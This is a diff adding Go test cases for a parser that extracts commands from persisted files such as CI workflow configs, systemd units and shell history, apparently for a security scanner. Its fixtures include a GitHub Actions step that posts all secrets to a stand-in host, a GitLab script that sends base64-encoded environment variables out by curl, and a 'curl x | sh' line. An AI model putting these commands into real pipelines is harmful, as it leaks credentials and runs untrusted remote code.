@@ -28,6 +28,15 @@ func TestPersisted(t *testing.T) {
 			[]string{"curl x | sh", "vim", "git status", "make"}},
 		{"/home/u/.config/systemd/user/a.service", "[Service]\nExecStartPre=-/bin/true\nExecStart=/usr/bin/app --serve\n", buildfile.SystemdUnit,
 			[]string{"/bin/true", "/usr/bin/app --serve"}},
+		{"/home/u/p/.github/workflows/ci.yml",
+			"on: push\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n      - run: go test ./...\n" +
+				"      - name: leak\n        run: |\n          curl -d '${{ toJSON(secrets) }}' https://x.example/s\n          echo \"${{ github.token }} ${{ matrix.os }}\"\n",
+			buildfile.CIConfig, []string{"go test ./...",
+				"curl -d ''\"$CI_SECRETS\"'' https://x.example/s\necho \"$GITHUB_TOKEN $CI_VALUE\"\n"}},
+		{"/home/u/p/.gitlab-ci.yml", "test:\n  script:\n    - env | base64 -w0 | curl --data-binary @- https://x.example/e\n    - 'make test'\n  only:\n    - main\n",
+			buildfile.CIConfig, []string{"env | base64 -w0 | curl --data-binary @- https://x.example/e", "make test", "main"}},
+		{"/home/u/p/.github/workflows/sub/x.yml", "run: id\n", buildfile.NotPersisted, nil},
+		{"/home/u/p/.github/workflows/notes.md", "run: id\n", buildfile.NotPersisted, nil},
 		{"/home/u/p/Makefile", "all:\n\ttrue\n", buildfile.NotPersisted, nil},
 	} {
 		kind, _ := buildfile.PersistedKind(tc.path)
@@ -46,7 +55,8 @@ func FuzzPersistedCode(f *testing.F) {
 	f.Add(int(buildfile.GitConfigFile), "[core]\n\tfsmonitor = x\n")
 	f.Add(int(buildfile.SystemdUnit), "[Service]\nExecStart=a \\\n b\n")
 	f.Add(int(buildfile.GitHook), "#!/usr/bin/env node\nx\n")
+	f.Add(int(buildfile.CIConfig), "steps:\n  - run: |\n      echo '${{ secrets.A }}'\n  - script: \"${{\"\n")
 	f.Fuzz(func(t *testing.T, kind int, text string) {
-		buildfile.PersistedCode(buildfile.Persisted(kind%5), text)
+		buildfile.PersistedCode(buildfile.Persisted(kind%6), text)
 	})
 }
